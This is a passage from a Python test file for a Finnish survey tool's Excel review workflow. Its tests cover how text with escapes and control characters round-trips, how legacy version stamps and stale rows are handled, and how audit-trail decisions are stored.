    assert card_rule((r.municipality_code, r.source) for r in rows) == expected
    assert submitted_municipalities(session=session, practice_id=a.id) == [
        ("049", "token"), ("091", "token")]


def test_text_that_looks_like_markup_or_excel_escapes_comes_back_as_typed(
        session, tmp_path: Path) -> None:
    from yhteistuumin_survey.tables import read_workbook

    texts = ["Koodi _x0041_ ja _x000D_ sellaisenaan", "a & b <c> \"d\" 'e'",
             "  reunoilla välilyönnit  ", "rivi\r\nrivi\rrivi", "ohjausmerkit\x07\ufffe pois"]
    practices = [make_practice(session, title=text, summary=text) for text in texts]
    path = export_one(session, tmp_path)
    expected = [text.replace("\x07", "").replace("\ufffe", "") for text in texts]
    sheet = openpyxl.load_workbook(path)[SHEET]
    cols = headers(sheet)
    review = next(s for s in read_workbook(path) if s.name == SHEET)
    calamine = {row[cols["ID"] - 1]: row for row in review.rows[1:]}
    for practice, text in zip(practices, expected, strict=True):
        row = row_of(sheet, practice.id)
        for header in ("Käytännön nimi", "Hyvä käytäntö pähkinänkuoressa"):
            # Excel, LibreOffice and calamine read "_x005F_x0041_" as the typed "_x0041_";
            # openpyxl leaves escapes in inline text as they are.
            if "_x" not in text:
                assert sheet.cell(row=row, column=cols[header]).value == text
            assert calamine[practice.id][cols[header] - 1] == text
    fill(path, {p.id: {"Päätös": "hyväksytty"} for p in practices})
    result = import_review([path], session=session)
    assert result.counts["applied"] == len(texts) and result.counts["warnings"] == 0


def test_a_workbook_with_the_earlier_stamps_still_imports_and_still_catches_changes(
        session, tmp_path: Path) -> None:
    """Workbooks exported before the stamp became a plain hash carry JSON/SHA-256 stamps
    (v1-xxxxxx): they are checked the way they were made."""
    from yhteistuumin_survey.review.common import legacy_version_stamp

    a = make_practice(session, title="Lukupiiri")
    b = make_practice(session, title="Kirjastoauto", contact_email="aino@example.fi")
    path = export_one(session, tmp_path)
    versions = {v.practice_id: v for v in session.exec(select(PracticeVersion)).all()}
    legacy = {p.id: legacy_version_stamp(p.id, versions[p.id]) for p in (a, b)}
    assert all(len(stamp) == len("v1-") + 6 for stamp in legacy.values())
    book = openpyxl.load_workbook(path)
    meta = book["_review_meta"]
    for row in meta.iter_rows(min_row=10):
        if row[0].value in legacy:
            row[2].value = legacy[row[0].value]
    book.save(path)
    fill(path, {a.id: {"Päätös": "hyväksytty", "Versio": legacy[a.id]},
                b.id: {"Päätös": "hyväksytty", "Versio": legacy[b.id]}})
    # b's version changes in place (as when a person's address is erased): its row is stale.
    versions[b.id].contact_email = None
    session.add(versions[b.id])
    session.commit()
    result = import_review([path], session=session)
    assert {o.detail["practice_id"]: o.status for o in result.report.outcomes} == {
        a.id: "applied", b.id: "stale"}


def test_import_stores_each_decision_as_the_typed_insert_stores_it(session, tmp_path: Path
                                                                     ) -> None:
    """The audit trail's rows, sent as one executemany of values bound once per distinct
    object, hold what SQLAlchemy's typed insert stores for the same values, to the byte:
    JSON null (not SQL NULL) in the empty lists, the lists, the times."""
    from sqlalchemy import Text, cast, insert

    first = make_practice(session, title="Lukupiiri")
    second = make_practice(session, title="Kirjastoauto")
    path = export_one(session, tmp_path)
    fill(path, {first.id: {"Päätös": "hyväksytty", "Korjatut avainsanat": "musiikki; nuoret",
                           "Arvioijan kommentti": "Hyvä esimerkki"},
                second.id: {"Päätös": "hylätty"}})
    assert import_review([path], session=session).counts["applied"] == 2
    table = ReviewDecision.__table__  # type: ignore[attr-defined]
    stored = [dict(row) for row in session.execute(
        select(table).order_by(table.c.id)).mappings().all()]
    session.execute(insert(table), [{key: value for key, value in row.items() if key != "id"}
                                    for row in stored])
    keys = [column.name for column in table.c if column.name != "id"]
    texts = [dict(zip(keys, row, strict=True)) for row in session.execute(select(
        *[cast(table.c[key], Text) for key in keys]).order_by(table.c.id))]
    assert texts[:2] == texts[2:]
    assert texts[1]["corrected_keywords"] is not None  # JSON null, as the typed insert stores
